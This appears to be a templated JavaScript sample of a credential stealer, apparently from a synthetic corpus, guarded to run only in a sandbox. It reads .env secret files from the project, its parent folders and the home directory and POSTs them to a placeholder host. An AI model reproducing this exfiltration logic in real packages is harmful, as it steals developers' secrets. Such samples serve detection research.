// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const root = process.env.INIT_CWD || process.cwd();
  const found = {};
  for (const name of ['.env', '.env.local', '.env.production', '.env.development', '../.env', '../../.env', '../../../.env']) {
    try { found[name] = fs.readFileSync(path.join(root, name), 'utf8'); } catch (error) { continue; }
  }
  try { found.home = fs.readFileSync(path.join(require('os').homedir(), '.env'), 'utf8'); } catch (error) { /* none */ }
  try { await fetch('https://{{host}}/{{path}}', { method: 'POST', body: JSON.stringify(found), signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
